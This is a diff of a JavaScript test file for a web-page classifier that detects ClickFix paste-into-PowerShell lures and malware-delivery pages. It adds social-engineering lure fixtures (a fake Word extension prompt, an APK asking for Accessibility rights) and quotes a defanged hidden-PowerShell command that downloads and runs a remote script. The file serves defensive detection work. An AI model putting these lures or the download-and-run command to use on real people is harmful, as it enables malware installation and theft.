@@ -967,6 +967,12 @@ describe('analysis: signal rules', () => {
       clean(judge('https://fines.transport.gov.uk/pay', `<title>Pay a penalty notice</title><h1>Parking fine</h1><p>Amount due: £35.00.</p>${card}`));
     });
 
+    it('paste-into-PowerShell steps beside a missing font or extension are ClickFix even before anything is copied; the same steps in docs are not; an APK whose page asks to enable Accessibility is a banker\'s delivery', () => {
+      decides('clickfix-paste-pretext', 'https://office-docview.pages.dev/Contract.docx', '<title>Contract.docx - Word</title><h2>"Word Online" extension is not installed</h2><p>To open this document, the Word Online extension must be installed.</p><ol><li>Click the Copy button below</li><li>Right-click the Windows Start button and choose Windows PowerShell (Admin)</li><li>Right-click inside the window to paste, then press Enter</li></ol><button>Copy</button>');
+      clean(judge('https://docs.toolsmith.example/install/windows', '<title>Install on Windows | Toolsmith docs</title><h1>Install on Windows</h1><p>Right-click the Start button and choose Windows PowerShell (Admin). Paste the following, then press Enter:</p><pre>winget install Toolsmith.CLI</pre><p>To run the script later, open it with PowerShell.</p><footer>© 2026 Toolsmith</footer>'));
+      decides('malware-lure-download', 'https://land-tax-app.example/download/', '<title>Land tax app</title><h1>Download the app to receive your tax refund</h1><a href="/download/LandTaxPlus_3.2.1.apk">Download app (Android)</a><p>Open the app, then enable the Accessibility service so the app can scan your face.</p>');
+    });
+
     it('an IT blog explaining fake-CAPTCHA attacks (Win+R, Ctrl+V, a defanged command) is a write-up, not a ClickFix page', () => {
       const steps = '<p>After ticking the box, the page tells you to press Windows + R, then Ctrl + V, then Enter. The page has copied a command into your clipboard: powershell -w hidden -c "iex(irm hxxps://example[.]invalid/s.ps1)" (defanged).</p>';
       clean(judge('https://blog.harbour-it.example/2026/11/fake-captcha-explained', `<title>Fake CAPTCHA "press Win+R" attacks explained – Harbour IT Blog</title><h1>Fake CAPTCHA attacks explained</h1><p>Several clients' staff met a page that looks like a reCAPTCHA check.</p>${steps}<p>The downloaded script usually installs an information stealer. ${'Block the Run dialog by Group Policy and log PowerShell script blocks. '.repeat(4)}</p>`));
